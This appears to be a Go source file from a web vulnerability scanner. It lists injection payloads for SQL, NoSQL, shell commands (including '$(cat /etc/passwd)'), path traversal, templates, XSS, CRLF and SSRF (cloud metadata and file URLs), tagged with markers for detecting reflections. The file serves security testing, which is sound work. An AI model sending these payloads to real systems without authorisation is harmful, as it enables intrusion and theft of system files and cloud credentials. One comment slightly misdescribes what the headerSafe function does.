package generate

// Payload families placed in string inputs during the injection phase. The
// markers are distinctive so an evidence oracle can recognise a reflection
// ("specter" and 7*7=49 arithmetic for templates). Time-based payloads are
// not here: they belong behind an explicit flag of the evidence oracle.
var injectionFamilies = []struct {
	family   string
	payloads []string
	// urlOnly families go only into URL-typed inputs (SSRF).
	urlOnly bool
}{
	{family: "sql", payloads: []string{`specter'"`, `' OR '1'='1' --`}},
	{family: "nosql", payloads: []string{`{"$ne": null}`, `{"$gt": ""}`, `';return true;var x='`}},
	// Output-based: the evidence oracle looks for id's "uid=…(…) gid=…"
	// or /etc/passwd in the answer, in every shell context.
	{family: "command", payloads: []string{`;id;`, `|id`, `$(id)`, "`id`", `$(cat /etc/passwd)`, `&& id`}},
	{family: "traversal", payloads: []string{`../../../../../../etc/passwd`, `..%2f..%2f..%2f..%2fetc%2fpasswd`}},
	{family: "template", payloads: []string{`{{7*7}}specter`, `${7*7}specter`}},
	{family: "xss", payloads: []string{`<script>alert("specter")</script>`, `"><svg onload=alert("specter")>`}},
	{family: "crlf", payloads: []string{"specter\r\nX-Specter-Injected: crlf", "specter%0d%0aX-Specter-Injected:%20crlf"}},
	{family: "ssrf", payloads: []string{"http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "file:///etc/passwd"}, urlOnly: true},
}

// Families lists the injection family names, for docs and the evidence
// oracle.
func Families() []string {
	out := make([]string, len(injectionFamilies))
	for i, f := range injectionFamilies {
		out[i] = f.family
	}
	return out
}

// headerSafe rewrites a payload for a header value: net/http refuses raw
// CR and LF in headers, so the CRLF family is sent percent-encoded there.
func headerSafe(p string) (string, bool) {
	for _, r := range p {
		if r == '\r' || r == '\n' {
			return "", false
		}
	}
	return p, true
}
